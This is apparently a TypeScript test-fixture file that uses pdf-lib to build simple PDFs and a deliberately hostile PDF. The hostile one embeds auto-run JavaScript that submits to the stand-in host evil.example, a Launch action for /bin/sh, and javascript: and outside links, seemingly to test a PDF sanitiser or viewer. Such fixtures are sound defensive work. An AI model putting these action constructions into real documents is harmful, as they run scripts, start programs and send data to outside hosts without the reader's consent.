import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";

/** A PDF with one page for each list of lines, in Helvetica that is not embedded; the same bytes for the same lines. */
export async function pdfOfLines(pages: readonly (readonly string[])[]): Promise<Uint8Array> {
  const pdf = await PDFDocument.create({ updateMetadata: false });
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const lines of pages) {
    const page = pdf.addPage([595, 842]);
    for (const [i, text] of lines.entries()) page.drawText(text, { x: 60, y: 760 - i * 16, size: 11, font });
  }
  return pdf.save();
}

/** A page of harmless words in a PDF that would run a script, start a program, submit and leave for another site, if it could. */
export async function hostilePdf(words: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOfLines([[words]]));
  const { context, catalog } = pdf;
  const script = {
    Type: "Action",
    S: "JavaScript",
    JS: PDFString.of("app.alert('run'); this.submitForm('https://evil.example/');"),
  };
  const launch = { Type: "Action", S: "Launch", F: PDFString.of("/bin/sh"), Next: script };
  const leave = { Type: "Action", S: "URI", URI: PDFString.of("https://evil.example/leave") };
  const scheme = { Type: "Action", S: "URI", URI: PDFString.of("javascript:alert(1)") };
  catalog.set(PDFName.of("OpenAction"), context.obj(script));
  catalog.set(PDFName.of("AA"), context.obj({ WC: launch }));
  catalog.set(
    PDFName.of("Names"),
    context.obj({ JavaScript: { Names: [PDFString.of("first"), context.register(context.obj(script))] } }),
  );
  const page = pdf.getPage(0);
  page.node.set(PDFName.of("AA"), context.obj({ O: launch }));
  const annotations = [launch, leave, scheme].map((action, i) =>
    context.register(
      context.obj({ Type: "Annot", Subtype: "Link", Rect: [60, 700 - i * 40, 500, 730 - i * 40], A: action }),
    ),
  );
  page.node.set(PDFName.of("Annots"), context.obj(annotations));
  return pdf.save();
}
